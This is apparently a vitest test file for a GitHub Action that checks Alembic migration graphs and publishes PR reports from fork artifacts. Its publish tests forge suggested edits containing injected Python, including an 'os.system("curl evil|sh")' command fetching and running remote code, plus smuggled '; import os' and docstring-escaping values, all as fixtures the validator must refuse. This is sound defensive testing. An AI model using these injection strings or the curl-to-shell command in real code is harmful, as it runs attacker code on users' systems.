import { beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import type { Finding, Report } from '../../src/report/model.js';
import { isReparentEdit, validateReport } from '../../src/github/validate-report.js';
import { answer, injectFault, runWithEnv, useFakeGitHub } from './faults.js';
import { runAction, zip } from './harness.js';
import {
  INI,
  REPO,
  TestRepo,
  V,
  fakePull,
  pullPayload,
  registerPull,
  revisionFile,
  revisions,
  stalePrRepo,
  type PrRepo,
} from './repos.js';

const { fake, repos } = useFakeGitHub();
let undo: (() => void) | undefined; // a fault swapped for another within one test

function reset(): void {
  fake.reset();
}

describe('open-PR radar: one PR that fails costs only that PR', () => {
  let repo: TestRepo;
  /** PRs 11, 12, 13, each adding a revision on aaaa01: all three overlap. */
  function threePrs(): void {
    reset();
    repo = new TestRepo();
    repos.push(repo);
    repo.write({ 'alembic.ini': INI, 'migrations/env.py': '# env\n', ...revisions(V, { id: 'aaaa01' }) });
    repo.commit('base');
    for (const [n, id] of [
      [11, 'r11aaa'],
      [12, 'r12bbb'],
      [13, 'r13ccc'],
    ] as const) {
      const files = { [`${V}/${id}_rev.py`]: revisionFile({ id, down: 'aaaa01' }) };
      registerPull(fake, fakePull(n, String(n).repeat(20), files), files);
    }
  }
  const radar = () =>
    runWithEnv(
      {
        fake,
        workspace: repo.dir,
        event: 'workflow_dispatch',
        payload: { repository: { full_name: REPO, default_branch: 'main' } },
        runId: 300,
        inputs: { mode: 'radar' },
      },
      {},
    );
  const commented = () => [...fake.comments].filter(([, c]) => c.length).map(([n]) => n);

  it('a locked PR (403) is skipped with a note; the others get their warning', async () => {
    threePrs();
    undo = injectFault(fake, (req, res, url) =>
      req.method === 'POST' && url.pathname.endsWith('/issues/11/comments')
        ? answer(req, res, 403, '{"message":"Unable to create comment because issue is locked."}')
        : false,
    );
    const r = await radar();
    expect(r.code, r.stdout).toBe(0);
    expect(commented()).toEqual([12, 13]);
    expect(r.messages('warning')).toEqual([
      'headsup radar: #11: comment skipped: Unable to create comment because issue is locked. (403)',
    ]);
    expect(r.messages('notice')).toEqual([]);
    expect(r.summary).toContain(
      'Radar comment not updated on #11 (`Unable to create comment because issue is locked. (403)`)',
    );
  });

  it('a PR closed meanwhile (404) is skipped; a token that cannot write stops at the first PR', async () => {
    threePrs();
    undo = injectFault(fake, (req, res, url) =>
      url.pathname.endsWith('/issues/12/comments') ? answer(req, res, 404, '{"message":"Not Found"}') : false,
    );
    const r = await radar();
    expect(commented()).toEqual([11, 13]);
    expect(r.messages('warning')).toEqual(['headsup radar: #12: comment skipped: Not Found (404)']);

    threePrs();
    fake.readOnly = true;
    const ro = await radar();
    expect(ro.code).toBe(0);
    expect(fake.calls.filter((c) => c.method === 'POST')).toHaveLength(1);
    expect(ro.messages('notice')).toEqual([
      expect.stringMatching(/^headsup radar: comments skipped: the token cannot write to pull requests/),
    ]);
  });

  it("a PR whose files cannot be read is reported as not checked; the others' overlap is still found", async () => {
    threePrs();
    fake.blobs.delete(fake.pulls.get(12)!.files[0].sha);
    const r = await radar();
    expect(r.code, r.stdout).toBe(0);
    expect(commented()).toEqual([11, 13]);
    expect(fake.comments.get(11)![0].body).toContain('#13 (`r13ccc`) also builds on `aaaa01`');
    expect(r.messages('warning')).toEqual([
      'headsup radar: #12 not checked: could not read its files: Not Found (404)',
    ]);
    expect(r.summary).toContain('1 open PR not checked: #12 (`Not Found (404)`)');
  });

  it('while a PR goes unchecked, an earlier warning is not turned ✅ (the overlap may be with it)', async () => {
    threePrs();
    fake.pulls.delete(13);
    const old = `<!-- headsup:radar key=default sha=${'11'.repeat(20)} run=200 attempt=1 state=findings -->\n⚠️ #12 also builds on aaaa01`;
    fake.addComment(11, old);
    fake.failures = [{ method: 'GET', path: /\/pulls\/12\/files$/, status: 502, times: 99 }];
    const r = await radar();
    expect(r.code, r.stdout).toBe(0);
    expect(fake.comments.get(11)![0].body).toBe(old);
    expect(r.summary).toContain('Radar warnings were not turned ✅ this run');
    expect(r.summary).toContain('#12 (`Server Error (502)`)');
  });
});

describe('publish: the artifact is untrusted, GitHub failures are named', () => {
  let p: PrRepo;
  let genuine: Report;

  /** The fork's pull_request run (read-only token) wrote `genuine`; the publish run reads run 500's artifact. */
  beforeAll(async () => {
    reset();
    p = stalePrRepo();
    repos.push(p.repo);
    registerPull(fake, fakePull(14, p.prHead, p.prFiles, 'someone/app'), p.prFiles);
    fake.readOnly = true;
    const check = await runAction({
      fake,
      workspace: p.repo.dir,
      event: 'pull_request',
      payload: pullPayload({ number: 14, baseSha: p.baseTip, headSha: p.prHead, headRepo: 'someone/app' }),
      sha: p.merge,
      runId: 500,
      inputs: { comment: 'false', suggestions: 'false' },
    });
    fake.readOnly = false;
    genuine = JSON.parse(readFileSync(check.outputs.report, 'utf8')) as Report;
  });

  /** A publish run of `report` as run 500's artifact, on a fake holding only PR #14. */
  function publish(report: unknown = genuine) {
    fake.calls = [];
    fake.comments.clear();
    fake.reviews.clear();
    fake.commits.set(p.merge, [p.baseTip, p.prHead]);
    fake.artifacts.set(500, [
      { id: 77, name: 'headsup-report', zip: zip({ 'headsup-report.json': JSON.stringify(report) }) },
    ]);
    return runWithEnv(
      {
        fake,
        workspace: p.repo.dir,
        event: 'workflow_run',
        payload: {
          workflow_run: {
            id: 500,
            event: 'pull_request',
            conclusion: 'failure',
            head_sha: p.prHead,
            head_branch: 'feature',
            head_repository: { full_name: 'someone/app' },
            pull_requests: [],
          },
          repository: { full_name: REPO, default_branch: 'main' },
        },
        runId: 501,
        inputs: { mode: 'publish' },
      },
      {},
    );
  }
  const copy = (): Report => JSON.parse(JSON.stringify(genuine)) as Report;
  const suggested = () =>
    [...fake.reviews.values()]
      .flat()
      .flatMap((r) => r.comments as { path: string; line: number; body: string }[]);

  it("a genuine report: both re-parent edits check out against the PR's file and are suggested", async () => {
    const r = await publish();
    expect(r.code, r.stdout).toBe(0);
    expect(
      suggested()
        .map((c) => c.line)
        .sort(),
    ).toEqual([16, 4]);
    expect(r.messages('warning')).toEqual([]);
  });

  it('an edit that rewrites other lines is neither suggested nor shown', async () => {
    const forged = copy();
    const f = forged.findings.find((x) => x.rule === 'stale-parent')!;
    const file = f.fix!.edits![0].file;
    f.fix!.edits = [
      { file, line: 1, endLine: 14, replacement: 'import os; os.system("curl evil|sh")' },
      ...genuine.findings.find((x) => x.rule === 'stale-parent')!.fix!.edits!,
      // The real line, but code after the new value.
      {
        ...f.fix!.edits![0],
        line: 16,
        endLine: 16,
        replacement: `${f.fix!.edits![0].replacement}; import os`,
      },
    ];
    const r = await publish(forged);
    expect(r.code, r.stdout).toBe(0);
    expect(
      suggested()
        .map((c) => c.line)
        .sort(),
    ).toEqual([16, 4]);
    expect(
      suggested()
        .map((c) => c.body)
        .join('\n'),
    ).not.toContain('import os');
    expect(fake.comments.get(14)![0].body).not.toContain('os.system');
    expect(r.messages('warning')).toEqual([
      `headsup: 2 edit(s) in the artifact are not a one-line re-parent of the PR's own line; not offered (${file}:1, ${file}:16).`,
    ]);
  });

  it('a report that dropped its findings but kept the forked graph is refused, and the summary says why', async () => {
    const forged = copy();
    forged.findings = [];
    forged.counts = { error: 0, warning: 0, notice: 0 };
    forged.ok = true;
    const r = await publish(forged);
    expect(r.code).toBe(2);
    const why =
      'report $.environments[0].mergedHeads has 2 heads (base 1) but the findings hold no multiple-heads';
    expect(r.messages('error')).toEqual([`headsup: refusing to publish the artifact of run 500: ${why}`]);
    expect(r.summary).toContain(`Refusing to publish the artifact of run 500: ${why}`);
    expect(fake.writes()).toEqual([]);
  });

  it('an expired artifact (410), a storage refusal (403), a listing that keeps failing: one line each, in the summary too', async () => {
    const runs: [string, () => void][] = [
      [
        'could not download the headsup-report artifact of run 500: expired (410)',
        () =>
          (undo = injectFault(fake, (req, res, url) =>
            url.pathname.endsWith('/zip')
              ? answer(req, res, 410, '{"message":"Artifact has expired"}')
              : false,
          )),
      ],
      [
        'could not download the headsup-report artifact of run 500: artifact storage answered Forbidden (403)',
        () =>
          (undo = injectFault(fake, (req, res, url) =>
            url.pathname.startsWith('/_storage/')
              ? answer(req, res, 403, '<Error><Code>AuthenticationFailed</Code></Error>', {
                  'content-type': 'application/xml',
                })
              : false,
          )),
      ],
      [
        'could not list the artifacts of run 500: Server Error (500)',
        () => (fake.failures = [{ method: 'GET', path: /\/runs\/500\/artifacts$/, status: 500, times: 4 }]),
      ],
    ];
    for (const [message, fault] of runs) {
      fault();
      const r = await publish();
      undo?.();
      undo = undefined;
      expect(r.code, r.stdout).toBe(2);
      expect(r.messages('error')).toEqual([`headsup: ${message}`]);
      expect(r.summary).toContain(`Nothing published: ${message}`);
      expect(fake.writes()).toEqual([]);
    }
  });
});

describe('what a publish run accepts from a fork', () => {
  const down = "down_revision: Union[str, Sequence[str], None] = 'bbbb02'";
  const edit = (original: string, replacement: string, line = 16, endLine = line) => ({
    file: 'f.py',
    line,
    endLine,
    original,
    replacement,
  });

  it('a one-line re-parent of the line the file holds', () => {
    expect(isReparentEdit(edit(down, down.replace('bbbb02', 'cccc03')), down)).toBe(true);
    expect(isReparentEdit(edit(down, down.replace("'bbbb02'", "('cccc03', 'x')")), down)).toBe(true);
    expect(isReparentEdit(edit('Revises: bbbb02', 'Revises: cccc03, x'), 'Revises: bbbb02')).toBe(true);
    const commented = "down_revision = 'b'  # keep";
    expect(isReparentEdit(edit(commented, "down_revision = 'c'  # keep"), commented)).toBe(true);
  });

  it('nothing else', () => {
    const reparent = down.replace('bbbb02', 'cccc03');
    const refused = [
      // not what the file holds, or no original to compare
      isReparentEdit(edit(down, reparent), down.replace('bbbb02', 'other')),
      isReparentEdit({ ...edit(down, reparent), original: undefined }, down),
      // several lines
      isReparentEdit(edit(down, reparent, 15, 16), down),
      isReparentEdit(edit(down, `${reparent}\nimport os`), down),
      // code beside the value, a call, another name, a changed comment
      isReparentEdit(edit(down, `${reparent}; import os`), down),
      isReparentEdit(edit(down, down.replace("'bbbb02'", "__import__('os')")), down),
      isReparentEdit(edit(down, reparent.replace('down_revision', 'revision')), down),
      isReparentEdit(
        edit("down_revision = 'b'  # x", "down_revision = 'c'  # y"),
        "down_revision = 'b'  # x",
      ),
      // a string that would end the docstring
      isReparentEdit(edit('Revises: b', 'Revises: c"""; import os; """'), 'Revises: b'),
      // a Revises line turned into a down_revision line
      isReparentEdit(edit('Revises: b', "down_revision = 'c'"), 'Revises: b'),
    ];
    expect(refused).toEqual(Array(refused.length).fill(false));
  });

  it('a new labelled branch may add a head without a multiple-heads finding', () => {
    const report = {
      schemaVersion: 1,
      tool: { name: 'headsup', version: '0' },
      ok: true,
      failOn: 'error',
      base: { ref: 'main', sha: null },
      head: { ref: 'HEAD', sha: null },
      findings: [],
      counts: { error: 0, warning: 0, notice: 0 },
      environments: [
        {
          kind: 'alembic',
          path: 'migrations',
          source: 'alembic.ini',
          baseHeads: ['a'],
          mergedHeads: ['a', 'y'],
          added: [
            { revision: 'x', downRevisions: [], file: 'x.py', line: 1, branchLabels: ['feat'] },
            { revision: 'y', downRevisions: ['x'], file: 'y.py', line: 1, branchLabels: [] },
          ],
          modified: [],
          deleted: [],
          revisionCount: 3,
          dryRun: { status: 'skipped', database: 'none', steps: [] },
          sketch: { nodes: [], edges: [] },
        },
      ],
    };
    expect(() => validateReport(report)).not.toThrow();
    report.environments[0].added[0].branchLabels = [];
    expect(() => validateReport(report)).toThrow(/mergedHeads has 2 heads \(base 1\)/);
  });

  /** A report whose environment `mig [main]` gained the head `y` (on `x`), with the given findings. */
  const headsReport = (findings: Finding[]) => {
    const counts = { error: 0, warning: 0, notice: 0 };
    for (const f of findings) counts[f.severity]++;
    return {
      schemaVersion: 1,
      tool: { name: 'headsup', version: '0' },
      ok: !counts.error,
      failOn: 'error',
      base: { ref: 'main', sha: null },
      head: { ref: 'HEAD', sha: null },
      findings,
      counts,
      environments: [
        {
          kind: 'alembic',
          path: 'mig',
          name: 'mig [main]',
          configFile: 'alembic.ini',
          section: 'main',
          source: 'alembic.ini',
          baseHeads: ['a'],
          mergedHeads: ['a', 'y'],
          added: [
            { revision: 'x', downRevisions: ['zzz'], file: 'x.py', line: 1, branchLabels: [] },
            { revision: 'y', downRevisions: ['x'], file: 'y.py', line: 1, branchLabels: [] },
          ],
          modified: [],
          deleted: [],
          revisionCount: 3,
          dryRun: { status: 'skipped', database: 'none', steps: [] },
          sketch: { nodes: [{ id: 'y', origin: 'pr', head: true, extraHead: true }], edges: [] },
        },
      ],
    };
  };
  const error = (rule: string, over: Partial<Finding> = {}): Finding => ({
    rule,
    severity: 'error',
    message: 'm',
    environment: 'mig [main]',
    file: 'x.py',
    line: 1,
    ...over,
  });

  it('keeps the environment’s name, config file and section, and the fork picture’s extra head', () => {
    const { report } = validateReport(headsReport([error('multiple-heads')]));
    expect(report.environments[0]).toMatchObject({
      path: 'mig',
      name: 'mig [main]',
      configFile: 'alembic.ini',
      section: 'main',
    });
    expect(Object.keys(report.environments[0]).slice(0, 6)).toEqual([
      'kind',
      'path',
      'name',
      'configFile',
      'section',
      'source',
    ]);
    expect(report.environments[0].sketch.nodes[0].extraHead).toBe(true);
    const bad = headsReport([error('multiple-heads')]);
    (bad.environments[0] as Record<string, unknown>).section = 7;
    expect(() => validateReport(bad)).toThrow(/environments\[0\]\.section is not a string/);
  });

  it('an extra head is explained by a finding standing for multiple-heads, or a missing parent below it', () => {
    // Matched by the environment's name: a finding of another environment explains nothing.
    expect(() => validateReport(headsReport([error('multiple-heads', { environment: 'mig' })]))).toThrow(
      /mergedHeads has 2 heads/,
    );
    const folded = validateReport(headsReport([error('stale-parent', { alsoRules: ['multiple-heads'] })]));
    expect(folded.report.findings[0]).toEqual(error('stale-parent', { alsoRules: ['multiple-heads'] }));
    expect(Object.keys(folded.report.findings[0]).slice(0, 2)).toEqual(['rule', 'alsoRules']);
    expect(() => validateReport(headsReport([error('missing-parent')]))).not.toThrow();
    // A missing parent elsewhere, or a mere notice, does not.
    expect(() => validateReport(headsReport([error('missing-parent', { file: 'other.py' })]))).toThrow(
      /mergedHeads has 2 heads/,
    );
    expect(() => validateReport(headsReport([error('stale-parent', { alsoRules: ['<b>'] })]))).toThrow(
      /alsoRules\[0\] is not a rule id/,
    );
  });
});
